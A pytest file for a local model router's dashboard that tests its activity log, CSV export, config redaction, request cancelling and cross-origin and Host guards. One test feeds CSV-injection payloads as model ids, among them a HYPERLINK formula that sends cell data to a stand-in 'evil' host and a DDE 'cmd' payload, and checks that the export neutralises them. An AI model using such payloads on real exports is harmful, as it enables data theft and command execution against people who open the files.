"""The dashboard's endpoints and rules, over HTTP: the activity log (SQLite, bounded, filtered, CSV,
kept across restarts), /overview, /config, the requests feed and cancel, the router's own log, and
the refusal of foreign Hosts and cross-origin state changes without keys. The page itself is driven
in a real browser in tests/test_dashboard_browser.py."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import logging
import sqlite3
import time
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import yaml

from llama_router.core.redact import redacted_args
from llama_router.front.auth import Keys
from llama_router.front.browser_guard import host_name, own_host
from llama_router.manage.activity import ActivityRow, ActivityStore
from llama_router.manage.board import key_labels
from llama_router.relay.request_rules import Timings, parse_timings

from .conftest import RouterFactory, assert_openai_error, fake_profile, wait_until
from .test_api import CHAT, chat_body, get_json, post_json, read_event


def row(model: str = "m", status: int = 200, **extra: Any) -> ActivityRow:
    figures: dict[str, Any] = {
        "time": time.time(),
        "model": model,
        "served_by": model,
        "path": CHAT,
        "status": status,
        "error": None,
        "prompt_tokens": 10,
        "cached_tokens": 4,
        "prefill_tps": 100.0,
        "generated_tokens": 5,
        "decode_tps": 50.0,
        "ttft_ms": 12.5,
        "duration_ms": 80.0,
        "waited_ms": 0.5,
        "key": None,
        "client": "127.0.0.1",
    }
    return ActivityRow(**{**figures, **extra})


def demo_profiles(models: tuple[Path, Path], binary: Path, **extra: Any) -> dict[str, Any]:
    """The shipped demo profiles, on the test's tiny models."""
    args = ["--ctx-size", "2048", "--parallel", "2"]
    return {
        "demo-a": {
            "model": str(models[0]),
            "binary": str(binary),
            "args": args,
            "aliases": ["demo"],
            **extra,
        },
        "demo-b": {"model": str(models[1]), "binary": str(binary), "args": args},
    }


# ---------------------------------------------------------------------------------------------- activity log


def test_timings_of_an_answer_are_read_from_its_tail() -> None:
    answer = (
        b'{"choices":[],"usage":{"completion_tokens":3,"prompt_tokens":21},"timings":{"cache_n":20,'
        b'"prompt_n":1,"prompt_ms":1.873,"prompt_per_token_ms":1.873,"prompt_per_second":533.9,'
        b'"predicted_n":3,"predicted_ms":0.212,"predicted_per_second":9433.9}}'
    )
    assert parse_timings(answer) == Timings(20, 1, 1.873, 3, 0.212)
    assert parse_timings(b'{"usage":{"prompt_tokens":2}}') is None
    assert parse_timings(b'{"timings":{"prompt_n":1}}') is None, "incomplete timings are no timings"


async def test_activity_is_bounded_filtered_exported_and_kept_in_its_file(tmp_path: Path) -> None:
    path = tmp_path / "state" / "activity.sqlite3"
    store = ActivityStore(path, max_rows=5)
    await store.open()
    written: list[int] = []

    def on_written(first: int, rows: Sequence[ActivityRow]) -> None:
        written.extend(range(first, first + len(rows)))

    store.on_written = on_written
    for index in range(4):
        store.add(row("a", prompt_tokens=index))
    for status in (404, 503):
        store.add(row("b", status=status, error="model_not_found" if status == 404 else None))
    store.add(row("c", served_by="b"))
    await store.flush()
    assert written == [1, 2, 3, 4, 5, 6, 7]

    rows = await store.query()
    assert [entry["id"] for entry in rows] == [7, 6, 5, 4, 3], "newest first, the oldest two dropped"
    assert [entry["id"] for entry in await store.query(model="b")] == [7, 6, 5], "asked for or served by"
    assert [entry["status"] for entry in await store.query(status="error")] == [503, 404]
    assert [entry["status"] for entry in await store.query(status="5xx")] == [503]
    assert [entry["id"] for entry in await store.query(status="ok")] == [7, 4, 3]
    assert [entry["id"] for entry in await store.query(limit=2, before=6)] == [5, 4]
    assert [entry["id"] for entry in await store.query(after=5)] == [7, 6]
    with pytest.raises(ValueError, match="status filter"):
        await store.query(status="teapot")

    exported = list(csv.DictReader(io.StringIO(await store.csv(model="a"))))
    assert [(entry["id"], entry["prompt_tokens"]) for entry in exported] == [("3", "2"), ("4", "3")]
    assert exported[0]["iso_time"].endswith("Z") and exported[0]["served_by"] == "a"
    await store.close()

    again = ActivityStore(path, max_rows=5)
    await again.open()
    assert [entry["id"] for entry in await again.query()] == [7, 6, 5, 4, 3], "kept across a restart"
    await again.close()


async def test_a_busy_flush_writes_every_row_in_order_whatever_its_size(tmp_path: Path) -> None:
    """Under load one flush carries hundreds of rows, written many to a statement: none is lost,
    doubled or mixed with its neighbour, whether the count fills whole statements or not."""
    store = ActivityStore(tmp_path / "activity.sqlite3")
    await store.open()
    written: list[int] = []
    store.on_written = lambda first, rows: written.extend(range(first, first + len(rows)))
    sizes = (1, 64, 130, 7)  # a lone row, one whole statement, two and a remainder, a remainder
    for size in sizes:
        for index in range(size):
            store.add(row(f"m{size}", prompt_tokens=index, client=None if index % 2 else "10.0.0.1"))
        await store.flush()
    total = sum(sizes)
    assert written == list(range(1, total + 1))
    rows = list(reversed(await store.query(limit=total)))
    assert [(entry["model"], entry["prompt_tokens"]) for entry in rows] == [
        (f"m{size}", index) for size in sizes for index in range(size)
    ]
    assert [entry["client"] for entry in rows] == [
        None if index % 2 else "10.0.0.1" for size in sizes for index in range(size)
    ]
    await store.close()


async def test_a_log_from_before_the_audit_columns_gains_them_and_keeps_its_rows(tmp_path: Path) -> None:
    path = tmp_path / "activity.sqlite3"
    old_columns = [name for name in ActivityRow._fields if name not in ("action", "detail")]
    with sqlite3.connect(path) as db:
        db.execute(f"CREATE TABLE activity (id INTEGER PRIMARY KEY, {', '.join(old_columns)})")
        values = row("old")._asdict()
        db.execute(
            f"INSERT INTO activity ({', '.join(old_columns)}) VALUES ({', '.join('?' * len(old_columns))})",
            [values[name] for name in old_columns],
        )
    db.close()
    store = ActivityStore(path)
    await store.open()
    store.add(row("m")._replace(action="load", detail=None, status=403))
    await store.flush()
    assert [(r["model"], r["action"]) for r in await store.query()] == [("m", "load"), ("old", None)]
    assert [r["model"] for r in await store.query(kind="request")] == ["old"]
    assert [r["model"] for r in await store.query(kind="management")] == ["m"]
    await store.close()


async def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    """A client chooses the model id and path it sends; a cell starting with `=`, `+`, `-`, `@`, a tab
    or a carriage return would be run as a formula by a spreadsheet, so it is written as text."""
    router = await start_router({"m": fake_profile(dummy_model)})
    hostile = [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
    ]
    for model in hostile:
        status, body = await router.chat(model)
        assert status == 404, body

    async def rows() -> list[dict[str, Any]]:
        return (await get_json(router, "/activity"))[1]["activity"]

    await wait_until(lambda: _count(rows, len(hostile)), what="the activity rows")
    async with router.session.get("/activity.csv") as response:
        assert response.status == 200
        exported = list(csv.DictReader(io.StringIO(await response.text())))
    formula = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for entry in exported for cell in entry.values() if cell.startswith(formula)]
    models = {entry["model"] for entry in exported}
    assert {"'" + model for model in hostile[:4]} <= models, models
    assert all(entry["status"] == "404" for entry in exported), "numbers stay numbers"


async def test_the_csv_export_quotes_tabs_and_carriage_returns_too(tmp_path: Path) -> None:
    """Ids with control characters are escaped before they are kept; a stored one is still safe."""
    store = ActivityStore(tmp_path / "activity.sqlite3")
    await store.open()
    store.add(row("\t=1+2", error="\r@x", client="-1"))
    await store.flush()
    [entry] = list(csv.DictReader(io.StringIO(await store.csv(), newline="")))
    assert (entry["model"], entry["error"], entry["client"]) == ("'\t=1+2", "'\r@x", "'-1")
    await store.close()


async def test_an_unusable_activity_file_costs_the_log_not_the_router(tmp_path: Path) -> None:
    path = tmp_path / "activity.sqlite3"
    path.mkdir()  # no file can be opened there (a damaged file is moved aside: see test_bad_entries)
    store = ActivityStore(path)
    await store.open()
    store.add(row())
    await store.flush()
    assert await store.query() == []
    await store.close()


async def test_finished_requests_become_activity_rows_with_tokens_speeds_and_times(
    start_router: RouterFactory, tiny_models: tuple[Path, Path], llama_server: Path, tmp_path: Path
) -> None:
    profiles = demo_profiles(tiny_models, llama_server)
    router = await start_router(profiles, state_dir=str(tmp_path / "kept"))
    status, _ = await router.chat("demo", max_tokens=4)
    assert status == 200
    payload = chat_body("demo-b", max_tokens=4, stream=True)
    async with router.session.post(CHAT, json=payload) as response:
        assert response.status == 200
        await response.read()
    status, _ = await router.chat("nope")
    assert status == 404

    async def rows() -> list[dict[str, Any]]:
        return (await get_json(router, "/activity"))[1]["activity"]

    await wait_until(lambda: _count(rows, 3), what="three activity rows")
    streamed, plain = (await get_json(router, "/activity", params={"status": "ok"}))[1]["activity"]
    assert (plain["model"], plain["served_by"], plain["path"], plain["status"]) == (
        "demo",
        "demo-a",
        CHAT,
        200,
    )
    assert (streamed["model"], streamed["served_by"]) == ("demo-b", "demo-b")
    for entry in (plain, streamed):
        assert entry["prompt_tokens"] > 0 and 0 < entry["generated_tokens"] <= 4, entry
        assert entry["cached_tokens"] is not None and entry["cached_tokens"] <= entry["prompt_tokens"]
        assert entry["prefill_tps"] > 0 and entry["decode_tps"] > 0, entry
        assert 0 < entry["ttft_ms"] <= entry["duration_ms"], entry
        assert entry["waited_ms"] > 0, "both waited for their model to load"
        assert entry["client"] == "127.0.0.1"
    (missing,) = (await get_json(router, "/activity", params={"status": "4xx"}))[1]["activity"]
    assert (missing["model"], missing["status"], missing["error"]) == ("nope", 404, "model_not_found")
    assert missing["served_by"] is None and missing["prompt_tokens"] is None

    async with router.session.get("/activity.csv", params={"model": "demo-b"}) as response:
        assert response.status == 200
        assert response.headers["Content-Type"].startswith("text/csv")
        assert "attachment" in response.headers["Content-Disposition"]
        (exported,) = list(csv.DictReader(io.StringIO(await response.text())))
    assert exported["generated_tokens"] == str(streamed["generated_tokens"])
    status, body = await get_json(router, "/activity", params={"status": "teapot"})
    assert status == 400
    assert_openai_error(body, "invalid_filter")
    status, body = await get_json(router, "/activity", params={"limit": "many"})
    assert status == 400
    assert_openai_error(body, "invalid_filter")

    await router.close()
    again = await start_router(profiles, state_dir=str(tmp_path / "kept"))
    status, body = await get_json(again, "/activity")
    assert [entry["id"] for entry in body["activity"]] == [3, 2, 1], "the log survives a restart"


async def _count(rows: Any, wanted: int) -> bool:
    return len(await rows()) >= wanted


# ---------------------------------------------------------------------------------------------- overview


async def test_overview_shows_models_devices_footprint_sources_and_the_ttl_countdown(
    start_router: RouterFactory, tiny_models: tuple[Path, Path], llama_server: Path
) -> None:
    router = await start_router(demo_profiles(tiny_models, llama_server, ttl=300))
    status, overview = await get_json(router, "/overview")
    assert status == 200
    models = {entry["model"]: entry for entry in overview["models"]}
    assert set(models) == {"demo-a", "demo-b"}
    assert models["demo-a"]["footprint_source"] == "estimated", "never loaded: the GGUF estimate"
    assert models["demo-a"]["ttl_expires_at"] is None, "not loaded: no countdown"
    assert [device["name"] for device in overview["devices"]] == ["ram"]
    assert overview["devices"][0]["models"] == []
    files = {profile: entry for entry in overview["readahead"]["files"] for profile in entry["profiles"]}
    assert files["demo-b"]["path"] == str(tiny_models[1])
    assert files["demo-b"]["bytes"] == tiny_models[1].stat().st_size
    assert 0 < files["demo-b"]["cached_bytes"] <= files["demo-b"]["bytes"], "its header was just read"

    before = time.time()
    assert (await router.chat("demo-a"))[0] == 200
    await wait_until(
        lambda: router.controller.sizing.footprints.get(router.config.profiles["demo-a"]), what="learning"
    )
    status, overview = await get_json(router, "/overview")
    models = {entry["model"]: entry for entry in overview["models"]}
    loaded = models["demo-a"]
    assert (loaded["status"], loaded["footprint_source"], loaded["loads"], loaded["restarts"]) == (
        "loaded",
        "learned",
        1,
        0,
    )
    assert 0 < loaded["load_seconds"] < 30
    assert before + 299 < loaded["ttl_expires_at"] < time.time() + 301
    (ram,) = overview["devices"]
    assert [(entry["model"], entry["source"]) for entry in ram["models"]] == [("demo-a", "learned")]
    assert ram["models"][0]["bytes"] == loaded["footprint"]["ram"] <= ram["used"]
    why = loaded["footprint_why"]["ram"]  # the lines llama-server logged, to check the figure by
    assert sum(entry["bytes"] for entry in why) == loaded["footprint"]["ram"]
    assert any("CPU_Mapped model buffer size" in entry["line"] for entry in why), why
    assert models["demo-b"]["footprint_why"] == {}, "an estimate has no log lines behind it"
    kinds = [event["event"] for event in overview["timeline"] if event.get("model") == "demo-a"]
    assert kinds[:2] == ["loading", "ready"]


async def test_failed_models_show_their_log_tail_and_count_restarts(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    profile = fake_profile(dummy_model, "--crash-during-load", "--log-lines", "3", footprint={"ram": 16})
    router = await start_router({"broken": profile}, max_failures=1)
    status, _ = await router.chat("broken")
    assert status == 503
    status, overview = await get_json(router, "/overview")
    (model,) = overview["models"]
    assert model["status"] == "failed"
    assert model["restarts"] == 1 and model["footprint_source"] == "configured"
    assert any("log line 3/3" in line for line in model["log_tail"]), model["log_tail"]


async def test_config_shows_the_profiles_but_never_keys_or_secrets(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    profile = fake_profile(
        dummy_model, "--api-key", "upstream-secret", env={"HF_TOKEN": "hf_secret", "MODE": "x"}
    )
    router = await start_router({"m": profile}, api_keys=["user-key"], admin_keys=["admin-key"])
    headers = {"Authorization": "Bearer user-key"}
    status, config = await get_json(router, "/config", headers=headers)
    assert status == 200
    text = json.dumps(config)
    for secret in ("user-key", "admin-key", "upstream-secret", "hf_secret"):
        assert secret not in text, secret
    assert config["server"]["api_keys"] == "1 key(s)"
    assert config["profiles"]["m"]["env"] == {"HF_TOKEN": "(hidden)", "MODE": "(hidden)"}, "names only"
    assert "--api-key" in config["profiles"]["m"]["args"] and "(hidden)" in config["profiles"]["m"]["command"]
    assert config["path"] == str(router.config.path)
    assert config["reload"]["last_error"] is None
    status, config = await get_json(router, "/config", headers={"Authorization": "Bearer admin-key"})
    assert config["profiles"]["m"]["env"] == {"HF_TOKEN": "(hidden)", "MODE": "x"}, "an admin sees values"


async def test_secret_values_are_hidden_on_every_page_that_shows_a_command_line_or_output(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    """The fake upstream echoes its unknown arguments and then fails to load: the command line, its
    output, the failure's reason and log tail reach /logs, /events' timeline, /running and /overview."""
    secrets = ("sekrit-aaaa", "tok-bbbb", "keyfile-cccc")
    flags = ("--crash-during-load", "--api-key", secrets[0], f"--hf-token={secrets[1]}")
    profile = fake_profile(dummy_model, *flags, "--api-key-file", secrets[2], "--log-lines", "2")
    router = await start_router({"m": profile}, max_failures=1)
    async with router.session.post("/models/load?wait=1", json={"model": "m"}) as response:
        assert response.status == 503, await response.text()
    pages = {}
    for path in ("/logs/m", "/running", "/overview", "/config", "/v1/models"):
        async with router.session.get(path) as response:
            assert response.status == 200, path
            pages[path] = await response.text()
    for path, text in pages.items():
        for secret in secrets:
            assert secret not in text, (path, secret)
    assert "starting: " in pages["/logs/m"] and "--api-key (hidden)" in pages["/logs/m"]
    assert "ignored args" in pages["/logs/m"] and "'--hf-token=(hidden)'" in pages["/logs/m"], "its output"
    overview = json.loads(pages["/overview"])
    failed = [event for event in overview["timeline"] if event["event"] == "failed"]
    assert failed and "(hidden)" in failed[-1]["reason"], "the failure's log tail, as /events sent it"
    [model] = overview["models"]
    assert model["status"] == "failed" and any("(hidden)" in line for line in model["log_tail"])


def test_secret_flags_are_hidden_with_and_without_an_equals_sign() -> None:
    assert redacted_args(["-c", "8", "--api-key", "k", "--hf-token=t", "--alias", "a"]) == [
        "-c",
        "8",
        "--api-key",
        "(hidden)",
        "--hf-token=(hidden)",
        "--alias",
        "a",
    ]
    keys = Keys(api=(b"one", b"two"), admin=(b"root",))
    assert key_labels(keys) == {b"one": "api-1", b"two": "api-2", b"root": "admin-1"}


# ---------------------------------------------------------------------------------------------- page


async def test_the_page_is_served_at_ui_and_browsers_are_sent_there(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    router = await start_router({"m": fake_profile(dummy_model)}, api_keys=["user-key"])
    async with router.session.get("/ui/") as response:
        assert response.status == 200, "the page asks for a key itself"
        assert response.headers["Content-Type"].startswith("text/html")
        assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]
        assert "app.js" in await response.text()
    for name, kind in (("app.js", "javascript"), ("style.css", "text/css"), ("favicon.svg", "image/svg")):
        async with router.session.get(f"/ui/{name}") as response:
            assert response.status == 200 and kind in response.headers["Content-Type"], name
    async with router.session.get("/ui", allow_redirects=False) as response:
        assert (response.status, response.headers["Location"]) == (302, "/ui/")
    async with router.session.get("/", headers={"Accept": "text/html"}, allow_redirects=False) as response:
        assert (response.status, response.headers["Location"]) == (302, "/ui/")
    for path in ("/", "/api/tags", "/api/v1/models"):
        status, body = await get_json(router, path, headers={"Authorization": "Bearer user-key"})
        assert status == 404, path
        assert_openai_error(body, "not_found")
    status, body = await get_json(router, "/ui/secrets.txt")
    assert status == 404
    status, body = await get_json(router, "/overview")
    assert status == 401, "the data behind the page needs the key"


# ---------------------------------------------------------------------------------------------- requests


async def test_waiting_requests_are_listed_on_the_events_feed_and_cancel_ends_them(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    router = await start_router(
        {"slow": fake_profile(dummy_model, "--load-delay", "30", footprint={"ram": 16})}
    )
    async with aiohttp.ClientSession(base_url=router.url) as watcher:
        feed = await watcher.get("/events", params={"requests": "1"})
        plain = await watcher.get("/events")
        assert (await read_event(feed))["event"] == (await read_event(plain))["event"] == "snapshot"

        client = asyncio.ensure_future(router.session.post(CHAT, json=chat_body("slow")))
        event = await read_event(feed)
        while event["event"] != "requests" or not event["requests"]:
            event = await read_event(feed)
        (waiting,) = event["requests"]
        assert (waiting["model"], waiting["state"], waiting["client"]) == ("slow", "waiting", "127.0.0.1")
        assert waiting["arrived"] <= time.time()
        status, listed = await get_json(router, "/requests")
        assert [entry["id"] for entry in listed["requests"]] == [waiting["id"]]

        status, body = await post_json(router, f"/requests/{waiting['id']}/cancel")
        assert (status, body["cancelled"]) == (200, waiting["id"])
        with pytest.raises(aiohttp.ClientError):
            response = await asyncio.wait_for(client, 10)
            await response.read()
        await wait_until(lambda: router.controller.queue_depth == 0, what="the queue to empty")

        rows: list[dict[str, Any]] = []
        while len(rows) < 2:  # the cancelled request's row, and the cancel call's own
            rows += event["activity"]
            event = await read_event(feed) if len(rows) < 2 else event
        (cancelled,) = [row for row in rows if row["action"] is None]
        assert (cancelled["model"], cancelled["status"], cancelled["error"]) == ("slow", 499, "cancelled")
        (call,) = [row for row in rows if row["action"] == "cancel"]
        assert (call["model"], call["status"], call["client"]) == ("slow", 200, "127.0.0.1")
        assert call["detail"] == f"request {waiting['id']} (POST {CHAT})"
        assert event["requests"] == []
        status, body = await post_json(router, f"/requests/{waiting['id']}/cancel")
        assert status == 404
        assert_openai_error(body, "not_found")

        # The plain feed got the model's lifecycle only, never the requests.
        plain_events: list[dict[str, Any]] = []
        await post_json(router, "/models/unload", {"model": "slow"})
        while not plain_events or plain_events[-1]["event"] != "stopped":
            plain_events.append(await read_event(plain))
        assert "requests" not in [entry["event"] for entry in plain_events]
        feed.close()
        plain.close()


async def test_a_request_that_has_ended_is_neither_listed_nor_cancellable_before_its_bookkeeping(
    tmp_path: Path,
) -> None:
    """A request's row and its leaving the board come a moment after its end (RequestEnds gathers
    ends); meanwhile the board neither lists it as running nor lets a cancel reach its connection."""
    from aiohttp.test_utils import make_mocked_request

    from llama_router.core.events import EventBus
    from llama_router.front.auth import KeyRing
    from llama_router.manage.board import RequestBoard
    from llama_router.relay.proxy import RECORD
    from llama_router.relay.request_rules import RequestRecord

    board = RequestBoard(ActivityStore(tmp_path / "activity.sqlite3"), KeyRing(Keys()), EventBus())
    request = make_mocked_request("POST", CHAT)
    record = request[RECORD] = RequestRecord("POST", CHAT, time.perf_counter())
    board.request_started(request, record)
    record.for_model, record.profile, record.model, record.waited = True, "m", "m", 0.0
    assert [entry["id"] for entry in board.requests_now()] == [record.live_id]
    assert board.find(record.live_id) is request
    record.ended = time.perf_counter()
    assert board.requests_now() == []
    assert board.find(record.live_id) is None
    board.close()


async def test_cancel_needs_an_admin_key_where_admin_keys_are_set(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    router = await start_router({"m": fake_profile(dummy_model)}, api_keys=["user"], admin_keys=["root"])
    status, body = await post_json(router, "/requests/1/cancel", headers={"Authorization": "Bearer user"})
    assert status == 403
    assert_openai_error(body, "admin_key_required")
    status, body = await post_json(router, "/requests/1/cancel", headers={"Authorization": "Bearer root"})
    assert status == 404, "an admin may cancel; there is no request 1 now"
    status, body = await get_json(router, "/requests", headers={"Authorization": "Bearer user"})
    assert (status, body) == (200, {"requests": []})


async def test_activity_rows_name_the_key_by_label_never_the_key(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    router = await start_router({"m": fake_profile(dummy_model)}, api_keys=["first", "second"])
    payload = chat_body("m")
    async with router.session.post(
        CHAT, json=payload, headers={"Authorization": "Bearer second"}
    ) as response:
        assert response.status == 200
    headers = {"Authorization": "Bearer first"}

    async def keys() -> list[str | None]:
        return [
            entry["key"] for entry in (await get_json(router, "/activity", headers=headers))[1]["activity"]
        ]

    await wait_until(keys, what="the activity row")
    assert await keys() == ["api-2"]


async def test_config_reloads_are_kept_as_management_rows_with_trigger_and_outcome(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    router = await start_router({"m": fake_profile(dummy_model)})
    path = router.config.path
    good = yaml.safe_load(path.read_text())
    path.write_text("profiles: [")
    assert not await router.server.reloader.reload("SIGHUP")
    good["profiles"]["n"] = fake_profile(dummy_model)
    path.write_text(yaml.safe_dump(good))
    assert await router.server.reloader.reload("SIGHUP")

    async def rows() -> list[dict[str, Any]]:
        return (await get_json(router, "/activity", params={"kind": "management"}))[1]["activity"]

    await wait_until(lambda: _count(rows, 2), what="two reload rows")
    done, failed = await rows()
    assert (done["action"], done["status"], done["error"]) == ("reload", 200, None)
    assert done["detail"] == "SIGHUP: added: n"
    assert (failed["action"], failed["status"], failed["error"]) == ("reload", 400, "config_error")
    assert failed["detail"].startswith(f"SIGHUP: {path}"), failed["detail"]
    assert (done["key"], done["client"]) == (None, None), "no HTTP call made it"


async def test_management_rows_name_the_key_by_label_and_the_model(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    router = await start_router(
        {"m": fake_profile(dummy_model)}, api_keys=["user"], admin_keys=["root", "ops"]
    )
    for key, status in (("ops", 200), ("user", 403), ("wrong", 401)):
        headers = {"Authorization": f"Bearer {key}"}
        assert (await post_json(router, "/unload", headers=headers))[0] == status
    assert (await post_json(router, "/models/load?wait=1", {"model": "m"}, headers=headers))[0] == 401
    root = {"Authorization": "Bearer root"}
    assert (await post_json(router, "/models/load?wait=1", {"model": "m"}, headers=root))[0] == 200
    assert (await post_json(router, "/unload?wait=1", headers=root))[0] == 200

    async def rows() -> list[dict[str, Any]]:
        params = {"kind": "management"}
        return (await get_json(router, "/activity", params=params, headers=root))[1]["activity"]

    await wait_until(lambda: _count(rows, 6), what="six management rows")
    shown = [(r["action"], r["model"], r["status"], r["key"], r["detail"]) for r in reversed(await rows())]
    assert shown == [
        ("unload_all", "", 200, "admin-2", "nothing was loaded"),
        ("unload_all", "", 403, "api-1", None),
        ("unload_all", "", 401, "unknown key", None),
        ("load", "", 401, "unknown key", None),
        ("load", "m", 200, "admin-1", None),
        ("unload_all", "", 200, "admin-1", "m"),
    ]


# ---------------------------------------------------------------------------------------------- router log


async def test_the_router_log_shows_its_own_lines_and_follows_new_ones(
    start_router: RouterFactory, dummy_model: Path, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="llama_router")  # as `serve` logs by default
    router = await start_router({"m": fake_profile(dummy_model)})
    async with router.session.get("/router/log") as response:
        text = await response.text()
    assert "llama-router listening on" in text
    assert "/router/log" not in text, "request lines belong to the activity log"
    async with aiohttp.ClientSession(base_url=router.url) as session:
        response = await session.get("/router/log", params={"follow": "1", "lines": "1"})
        assert (await asyncio.wait_for(response.content.readline(), 10)).strip()
        await post_json(router, "/models/load", {"model": "m"})
        line = b""
        while b"m ready in" not in line:
            line = await asyncio.wait_for(response.content.readline(), 10)
        response.close()


# ---------------------------------------------------------------------------------------------- browsers


def test_own_hosts_are_addresses_localhost_and_the_machine_not_other_names() -> None:
    assert host_name("[::1]:8080") == "::1" and host_name("Example.COM.:80") == "example.com"
    for host in ("127.0.0.1:8080", "[::1]:8080", "192.168.1.20", "localhost:8080", "app.localhost"):
        assert own_host(host, "127.0.0.1"), host
    assert own_host("router.lan:8080", "router.lan")
    for host in ("evil.example", "evil.example:8080", "localhost.evil.example", ""):
        assert not own_host(host, "127.0.0.1"), host


async def test_without_keys_foreign_hosts_and_cross_origin_state_changes_are_refused(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    router = await start_router({"m": fake_profile(dummy_model)})
    port = router.port
    status, body = await get_json(router, "/v1/models", headers={"Host": f"evil.example:{port}"})
    assert status == 403, "a DNS-rebound name"
    assert_openai_error(body, "host_not_allowed")
    assert (await get_json(router, "/v1/models", headers={"Host": f"localhost:{port}"}))[0] == 200
    assert (await get_json(router, "/health", headers={"Host": "evil.example"}))[0] == 200

    foreign = {"Origin": "http://evil.example"}
    status, body = await post_json(router, "/models/load", {"model": "m"}, headers=foreign)
    assert status == 403
    assert_openai_error(body, "cross_origin_refused")
    status, body = await post_json(router, CHAT, chat_body("m"), headers={"Sec-Fetch-Site": "cross-site"})
    assert status == 403
    assert_openai_error(body, "cross_origin_refused")
    status, body = await get_json(router, "/unload", headers={"Sec-Fetch-Site": "cross-site"})
    assert status == 403, "llama-swap's GET /unload changes state too"
    assert router.controller.view("m").state.value == "cold", "nothing was loaded"

    assert (await get_json(router, "/v1/models", headers=foreign))[0] == 200, "reading is not a change"
    own = {"Origin": f"http://127.0.0.1:{port}", "Sec-Fetch-Site": "same-origin"}
    status, body = await post_json(router, "/models/load?wait=1", {"model": "m"}, headers=own)
    assert status == 200, "the dashboard's own page may"


async def test_with_keys_the_key_is_the_guard_whatever_the_host(
    start_router: RouterFactory, dummy_model: Path
) -> None:
    router = await start_router({"m": fake_profile(dummy_model)}, api_keys=["user-key"])
    headers = {
        "Host": "router.example.org",
        "Authorization": "Bearer user-key",
        "Origin": "https://app.example",
    }
    assert (await post_json(router, CHAT, chat_body("m"), headers=headers))[0] == 200
    status, body = await post_json(router, CHAT, chat_body("m"), headers={"Host": "router.example.org"})
    assert status == 401
    assert_openai_error(body, "invalid_api_key")
